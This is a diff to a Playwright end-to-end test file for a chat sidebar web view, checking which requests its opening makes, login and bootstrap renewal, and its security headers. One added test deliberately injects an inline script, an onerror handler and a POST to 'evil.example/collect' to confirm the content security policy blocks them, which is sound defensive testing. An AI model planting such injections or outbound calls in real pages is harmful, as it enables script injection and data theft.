@@ -1,9 +1,11 @@
 import type { Page, Request } from '@playwright/test';
+import { spruce } from '../support/client.js';
 import { expect, journey } from '../support/journey.js';
+import { sidebarUrl } from '../support/plights.js';
 
 /** The opening is the product: what is asked for, in which order, and from whom. */
 journey.describe('the opening', () => {
-  journey('of a proved web view costs one document, one bootstrap and one card', async ({ client, page }) => {
+  journey('of a proved web view costs one document, and then the card alone', async ({ client, page }) => {
     await client.open();
     await client.showsCardOf('wmLinXiaoyu');
     const asked = record(page, (request) => request.frame() !== page.mainFrame());
@@ -11,35 +13,89 @@ journey.describe('the opening', () => {
     await client.chooseChat('wmHuangLi');
     await client.showsCardOf('wmHuangLi');
 
-    const paths = asked
-      .map((request) => new URL(request.url()).pathname)
-      .filter((path) => !path.includes('.'));
-    expect(paths).toEqual([
+    expect(pathsOf(asked)).toEqual(['/s/wwspruce0a1b2c3d4e/1000002', '/api/customers/wmHuangLi/card']);
+  });
+
+  journey('asks for the bootstrap again once the last one is ten minutes old', async ({ client, page }) => {
+    await client.open();
+    await client.showsCardOf('wmLinXiaoyu');
+    await page.clock.install();
+    await page.clock.fastForward('10:01');
+    const asked = record(page, (request) => request.frame() !== page.mainFrame());
+
+    await client.chooseChat('wmHuangLi');
+    await client.showsCardOf('wmHuangLi');
+
+    expect(pathsOf(asked)).toEqual([
       '/s/wwspruce0a1b2c3d4e/1000002',
       '/api/bootstrap',
       '/api/customers/wmHuangLi/card',
     ]);
   });
 
-  journey('of a new web view leaves for the login before any bundle is there', async ({ client, page }) => {
-    const events: string[] = [];
-    const note = (what: string) => (request: Request) => {
-      const { pathname } = new URL(request.url());
-      if (request.frame() !== page.mainFrame())
-        events.push(`${what} ${pathname.replace(/-[\w-]+\.js$/, '.js')}`);
-    };
-    page.on('request', note('asked for'));
-    page.on('requestfinished', note('got'));
-    await client.open();
-    await client.showsCardOf('wmLinXiaoyu');
+  journey(
+    'renews a signature of the kept bootstrap that the client refuses, once',
+    async ({ client, faults, page }) => {
+      await client.open();
+      await client.showsCardOf('wmLinXiaoyu');
+      await faults.switchOn({ kind: 'killTicket', corpId: spruce, agentId: 1000002 });
+      const asked = record(page, (request) => request.frame() !== page.mainFrame());
 
-    const beforeLogin = events.slice(0, events.indexOf('asked for /api/auth/start'));
-    expect(beforeLogin).toContain('got /s/wwspruce0a1b2c3d4e/1000002');
-    // The browser may have guessed that it will want the bundle; it is not waited for.
-    expect(beforeLogin).not.toContain('got /assets/index.js');
-    expect(events.filter((event) => event === 'got /assets/index.js')).toHaveLength(1);
-    expect(events.filter((event) => event === 'got /api/bootstrap')).toHaveLength(1);
-  });
+      await client.chooseChat('wmHuangLi');
+      await client.showsCardOf('wmHuangLi');
+      await client.chooseChat('woChenYu');
+      await client.showsCardOf('woChenYu');
+
+      expect(pathsOf(asked)).toEqual([
+        '/s/wwspruce0a1b2c3d4e/1000002',
+        '/api/bootstrap',
+        '/api/customers/wmHuangLi/card',
+        '/s/wwspruce0a1b2c3d4e/1000002',
+        '/api/customers/woChenYu/card',
+      ]);
+    },
+  );
+
+  journey(
+    'of a new web view leaves for the login from a page that never begins, and boots once',
+    async ({ client, page }) => {
+      // Counted where it happens: documents that come to their end, and pages that are drawn.
+      const events: string[] = [];
+      await page.exposeFunction('noteEvent', (event: string) => events.push(event));
+      await page.addInitScript(() => {
+        if (!location.pathname.startsWith('/s/')) return;
+        const note = (event: string) => Reflect.get(window, 'noteEvent')(event);
+        document.addEventListener('DOMContentLoaded', () => note('document loaded'));
+        new MutationObserver((_changes, observer) => {
+          if (!document.querySelector('#app > *')) return;
+          observer.disconnect();
+          note('page booted');
+        }).observe(document, { childList: true, subtree: true });
+      });
+      page.on('request', (request) => {
+        const { pathname } = new URL(request.url());
+        if (/^\/api\/(auth|bootstrap|customers)/.test(pathname)) events.push(pathname);
+      });
+      await client.open();
+      await client.showsCardOf('wmLinXiaoyu');
+
+      expect(events.filter((event) => event.startsWith('/api/'))).toEqual([
+        '/api/auth/start',
+        '/api/auth/callback/wwspruce0a1b2c3d4e/1000002',
+        '/api/bootstrap',
+        '/api/customers/wmLinXiaoyu/card',
+      ]);
+      // Both after the login: the page from which it leaves does neither.
+      const afterLogin = events.slice(events.indexOf('/api/auth/callback/wwspruce0a1b2c3d4e/1000002'));
+      for (const [which, all] of [
+        ['document loaded', events],
+        ['page booted', events],
+        ['document loaded', afterLogin],
+        ['page booted', afterLogin],
+      ] as const)
+        expect(all.filter((event) => event === which)).toEqual([which]);
+    },
+  );
 
   journey('of a web view whose page stays open costs the card alone', async ({ client, page }) => {
     await client.open();
@@ -73,6 +129,48 @@ journey.describe('the opening', () => {
   );
 
   journey(
+    'runs nothing and asks nobody that is not ours, whatever is written into it',
+    async ({ client }) => {
+      await client.open();
+      await client.showsCardOf('wmLinXiaoyu');
+      const frame = client.sidebarFrame();
+
+      const refused = await frame.evaluate(async () => {
+        const violated: string[] = [];
+        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
+          violated.push(effectiveDirective),
+        );
+        const script = document.createElement('script');
+        script.textContent = 'window.injected = true;';
+        document.body.append(script);
+        const image = document.createElement('img');
+        image.setAttribute('onerror', 'window.injected = true');
+        image.src = 'https://evil.example/pixel.png';
+        document.body.append(image);
+        await fetch('https://evil.example/collect', { method: 'POST' }).catch(() => undefined);
+        await new Promise((resolve) => setTimeout(resolve, 100));
+        return { violated, injected: Reflect.get(window, 'injected') };
+      });
+
+      expect(refused.injected).toBeUndefined();
+      expect(refused.violated).toEqual(
+        expect.arrayContaining(['script-src-elem', 'script-src-attr', 'img-src', 'connect-src']),
+      );
+    },
+  );
+
+  journey('can’t be framed by anybody else', async ({ page }) => {
+    await page.route('http://127.0.0.1:9/**', (route) =>
+      route.fulfill({ contentType: 'text/html', body: `<iframe src="${sidebarUrl()}"></iframe>` }),
+    );
+    await page.goto('http://127.0.0.1:9/');
+
+    await expect
+      .poll(() => page.frames().map((frame) => frame.url().split(':')[0]))
+      .toEqual(['http', 'chrome-error']);
+  });
+
+  journey(
     'leaves nothing in the url, nothing in local storage and no error behind',
     async ({ client, page }) => {
       const errors: string[] = [];
@@ -91,6 +189,11 @@ journey.describe('the opening', () => {
     },
   );
 });
+
+/** Without the files of the page itself. */
+function pathsOf(requests: Request[]): string[] {
+  return requests.map((request) => new URL(request.url()).pathname).filter((path) => !path.includes('.'));
+}
 
 function record(page: Page, wanted: (request: Request) => boolean): Request[] {
   const asked: Request[] = [];
